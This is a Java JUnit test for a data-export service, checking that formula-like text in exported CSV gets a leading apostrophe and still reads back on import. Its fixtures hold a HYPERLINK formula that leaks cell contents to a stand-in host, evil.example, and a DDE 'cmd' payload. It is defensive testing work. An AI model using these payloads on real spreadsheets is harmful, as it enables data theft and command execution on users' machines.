package org.tongchou.app.data;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.tongchou.app.indicators.FrameworkService;
import org.tongchou.app.indicators.IndicatorService;
import org.tongchou.app.periods.Period;
import org.tongchou.app.support.H2Test;
import org.tongchou.app.support.TestDatabase;
import org.tongchou.app.support.ValueFixture;

/**
 * Issue 9, item 7: a reporter's comment (or a source) that a spreadsheet would run as a formula is exported with a
 * leading apostrophe, numbers stay numbers, and the exported file still imports back without a change.
 */
@H2Test
class DataExportFormulaTest {
    @Autowired
    DataExportService export;
    @Autowired
    DataImportService imports;
    @Autowired
    DataValueService values;
    @Autowired
    FrameworkService frameworks;
    @Autowired
    IndicatorService indicators;
    @Autowired
    TestDatabase db;
    @Autowired
    JdbcClient jdbc;
    @TempDir
    Path dir;
    long[] u;

    @BeforeEach
    void setUp() {
        u = ValueFixture.emptyCityWithDefaultFramework(db, indicators, frameworks, jdbc);
        jdbc.sql("UPDATE admin_unit SET name = ? WHERE id = ?").params("=1+1 镇", u[2]).update();
    }

    @Test
    void formulaTextIsNeutralisedAndTheFileStillReadsBack() throws IOException {
        String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
        values.write(new ValueWrite(u[1], "gdp", Period.year(2024), 12.5, null, "@SUM(1,2)", evil), "reporter", "typed");
        values.write(new ValueWrite(u[2], "gdp", Period.year(2024), 7, null, "+统计", "\tcmd|' /C calc'!A0"), "reporter", "typed");
        for (ImportLayout layout : ImportLayout.values()) {
            StringWriter w = new StringWriter();
            export.export(new ExportOptions(layout, List.of("gdp"), null, List.of()), w);
            List<CsvRecord> rows = CsvReader.builder().ofCsvRecord(w.toString()).stream().toList();
            for (CsvRecord r : rows.subList(1, rows.size())) {
                for (String cell : r.getFields()) {
                    if (cell.isEmpty() || org.tongchou.app.export.SpreadsheetText.isPlainNumber(cell)) continue;
                    assertThat(cell.charAt(0)).as(layout + " cell " + cell).isNotIn('=', '+', '-', '@', '\t', '\r');
                }
            }
            assertThat(w.toString()).as("a number stays a number").contains(",12.5");
            if (layout == ImportLayout.LONG) {
                assertThat(w.toString()).contains("'" + "=HYPERLINK").contains("'@SUM(1,2)").contains("'+统计").contains("'=1+1 镇");
                Path f = dir.resolve("export.csv");
                Files.writeString(f, w.toString());
                ImportReport back = imports.importFile(f, ImportOptions.defaults("reporter").withDryRun(true));
                assertThat(back.problems()).isEmpty();
                assertThat(back.unchanged()).as("the neutralised texts read back as they were typed").isEqualTo(2);
            }
        }
        assertThat(values.find(u[1], "gdp", Period.year(2024)).orElseThrow().comment()).isEqualTo(evil);
    }
}
